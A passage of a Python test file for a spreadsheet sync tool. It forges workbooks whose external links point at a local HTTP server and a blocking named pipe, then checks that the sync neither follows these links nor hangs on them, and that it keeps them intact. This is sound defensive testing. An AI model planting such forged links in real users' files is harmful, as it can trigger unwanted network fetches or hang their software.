                                         "the 1,048,576 rows and 16,384 columns a spreadsheet holds (a damaged or "
                                         "forged workbook)")
    else:  # the last cell a spreadsheet holds: read (by the full load) like any other
        assert run["code"] == 0, _measured(run)


class _LinkTarget(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(404)
        self.end_headers()

    do_HEAD = do_GET

    def log_message(self, *args: Any) -> None:
        pass


def add_external_links(path: Path, http_target: str, file_target: str) -> None:
    """Two external workbooks, as Excel links them: xl/externalLinks/externalLinkN.xml with a relationship to the
    target (TargetMode="External"), listed in workbook.xml, and a Pipeline custom column whose formula reads [1]."""
    wb = openpyxl.load_workbook(path)
    ws = wb["Pipeline"]
    column = len(FIELDS) + 2
    ws.cell(1, column, "Rate")
    ws.cell(2, column, "=[1]Rates!$A$1")
    ws.cell(3, column, "=[2]Rates!$A$1")
    wb.save(path)
    with zipfile.ZipFile(path) as archive:
        entries = {info.filename: archive.read(info.filename) for info in archive.infolist()}
    links = []
    for n, target in ((1, http_target), (2, file_target)):
        entries[f"xl/externalLinks/externalLink{n}.xml"] = (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns="{MAIN_NS}" '
            f'xmlns:r="{REL_NS}"><externalBook r:id="rId1"><sheetNames><sheetName val="Rates"/></sheetNames>'
            '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>42</v></cell></row></sheetData>'
            "</sheetDataSet></externalBook></externalLink>").encode()
        entries[f"xl/externalLinks/_rels/externalLink{n}.xml.rels"] = (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{PKG_REL_NS}">'
            f'<Relationship Id="rId1" Type="{REL_NS}/externalLinkPath" Target="{target}" TargetMode="External"/>'
            "</Relationships>").encode()
        links.append(f"rIdExt{n}")
    rels = entries["xl/_rels/workbook.xml.rels"].decode()
    rels = rels.replace("</Relationships>", "".join(
        f'<Relationship Id="{rid}" Type="{REL_NS}/externalLink" Target="externalLinks/externalLink{n}.xml"/>'
        for n, rid in enumerate(links, start=1)) + "</Relationships>")
    entries["xl/_rels/workbook.xml.rels"] = rels.encode()
    workbook = entries["xl/workbook.xml"].decode()
    prefix = re.search(r"<(\w+:)?sheets>", workbook).group(1) or ""
    references = "".join(f'<{prefix}externalReference xmlns:r="{REL_NS}" r:id="{rid}"/>' for rid in links)
    workbook = workbook.replace(f"</{prefix}sheets>",
                                f"</{prefix}sheets><{prefix}externalReferences>{references}</{prefix}externalReferences>", 1)
    entries["xl/workbook.xml"] = workbook.encode()
    types = entries["[Content_Types].xml"].decode()
    types = types.replace("</Types>", "".join(
        f'<Override PartName="/xl/externalLinks/externalLink{n}.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
        for n in (1, 2)) + "</Types>")
    entries["[Content_Types].xml"] = types.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)


def external_links(path: Path) -> dict[str, str]:
    """Part name -> the target its relationship points at."""
    found = {}
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            match = re.match(r"^xl/externalLinks/_rels/(externalLink\d+\.xml)\.rels$", name)
            if match:
                rel = ElementTree.fromstring(archive.read(name)).find(f"{{{PKG_REL_NS}}}Relationship")
                found["xl/externalLinks/" + match.group(1)] = rel.get("Target")
    return found


def test_external_links_are_neither_followed_nor_lost(tmp_path):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _LinkTarget)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    fifo = tmp_path / "rates.xlsx"
    os.mkfifo(fifo)  # opening it to read blocks: following this link would hang the sync until it is killed
    http_target = f"http://127.0.0.1:{server.server_address[1]}/rates.xlsx"
    try:
        path = base_workbook(tmp_path / "p.xlsx")
        add_external_links(path, http_target, fifo.as_uri())
        wb = openpyxl.load_workbook(path)  # openpyxl sees both links: the workbook is well formed
        assert len(wb._external_links) == 2
        before_links, before = external_links(path), path.read_bytes()
        assert set(before_links.values()) == {http_target, fifo.as_uri()}
        run = run_limited(["sync", "p.xlsx", "--today", TODAY.isoformat()], tmp_path)
        print(f"external links: {_measured(run)}")
    finally:
        server.shutdown()
        server.server_close()
    assert _LinkTarget.hits == [], f"the sync fetched the linked workbook: {_LinkTarget.hits}"
    assert run["code"] is not None, f"killed after {TIME_LIMIT:.0f} s: did it open the linked file? ({_measured(run)})"
    assert run["peak_mb"] <= PEAK_LIMIT_MB, _measured(run)
    if run["code"] != 0:  # refusing is acceptable, if said clearly and nothing is touched
        assert_clear_refusal(run, exit_code=None)
        assert path.read_bytes() == before
        return
    assert external_links(path) == before_links, "external links lost or changed by the sync"
    wb = openpyxl.load_workbook(path)
    column = len(FIELDS) + 2
    assert wb["Pipeline"].cell(2, column).value == "=[1]Rates!$A$1"
    assert wb["Pipeline"].cell(3, column).value == "=[2]Rates!$A$1"
    with zipfile.ZipFile(path) as archive:
        assert b"externalReference" in archive.read("xl/workbook.xml")
    assert wb["Pipeline"].cell(2, COL["id"] + 1).value == "L-0001"  # the sync did write
